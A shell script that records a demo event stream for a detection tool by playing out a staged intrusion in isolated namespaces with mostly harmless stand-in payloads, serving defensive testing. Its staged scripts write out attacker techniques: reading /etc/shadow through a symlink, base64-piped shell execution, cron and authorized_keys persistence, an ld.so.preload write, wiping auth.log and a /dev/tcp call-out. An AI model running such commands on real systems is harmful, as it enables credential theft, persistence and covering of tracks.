#!/bin/sh
# Records pipelines/demo.jsonl.gz anew: an intrusion played out for real, in namespaces of its own, by harmless commands.
# Needs root and a built falco-pipe. What it writes below /etc, /var and /srv is on scratch mounts that vanish with it.
set -eu
root=$(cd "$(dirname "$0")/.." && pwd)
stage=$(mktemp -d)
trap 'rm -rf "$stage"' EXIT

cat >"$stage/intrusion.sh" <<'PLAY'
# A web shop's server runs a command that a request smuggled in …
cd /srv/shop
./nginx ./request.sh
# … and the intruder makes himself at home.
./nginx ./intruder.sh
PLAY
cat >"$stage/request.sh" <<'PLAY'
/bin/sh -c 'id; uname -a'
PLAY
cat >"$stage/intruder.sh" <<'PLAY'
/bin/bash ./foothold.sh
PLAY
cat >"$stage/foothold.sh" <<'PLAY'
whoami
ln -s /etc/shadow notes.txt
cat notes.txt
/bin/sh -c 'echo ZWNobyBoZWxsbwo= | base64 -d | sh'
cp /bin/true /dev/shm/.update
/dev/shm/.update
echo '* * * * * root /dev/shm/.update' >/etc/cron.d/update
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 mallory' >>/root/.ssh/authorized_keys
echo /dev/shm/.update.so >/etc/ld.so.preload
rm /etc/ld.so.preload
bash ./call.sh
: >/var/log/auth.log
cat /etc/hostname
PLAY
cat >"$stage/call.sh" <<'PLAY'
exec 3<>/dev/tcp/203.0.113.10/443
PLAY
cat >"$stage/play.sh" <<PLAY
set -eu
mkdir $stage/etc && cp -a /etc/passwd /etc/group /etc/shadow /etc/nsswitch.conf /etc/hostname $stage/etc/ && mkdir $stage/etc/cron.d
for folder in /srv /dev/shm /root /var/log; do mount -t tmpfs none \$folder; done
mount --bind $stage/etc /etc
echo 'Accepted publickey for alice' >/var/log/auth.log
mkdir /srv/shop /root/.ssh && cp $stage/*.sh /srv/shop/ && cp /bin/bash /srv/shop/nginx
ip link set lo up && ip addr add 203.0.113.10/32 dev lo
echo ready
read -r _
env -i PATH=/usr/bin:/bin HOME=/root sh /srv/shop/intrusion.sh >/dev/null 2>&1 || true
PLAY

mkfifo "$stage/go" "$stage/said"
(cd / && exec unshare --mount --net --propagation private sh "$stage/play.sh") <"$stage/go" >"$stage/said" &
play=$!
exec 3>"$stage/go" 4<"$stage/said"
read -r _ <&4
FALCO_PIPE_LOG_LEVEL=info "$root/bin/falco-pipe" record "$root/pipelines/demo.jsonl.gz" --rules "$root/rules/host.yaml" \
  --descendants-of "$play" 2>"$stage/log" &
recorder=$!
until grep -q 'recording to' "$stage/log"; do sleep 0.1; done
# Who is called listens in the same network, but is no part of the play.
nsenter --target "$play" --net "$(command -v node)" -e "require('net').createServer((s) => s.end()).listen(443)" &
listener=$!
sleep 0.5
echo go >&3
wait "$play"
sleep 0.5
kill -TERM "$recorder" "$listener"
wait "$recorder"
cat "$stage/log"
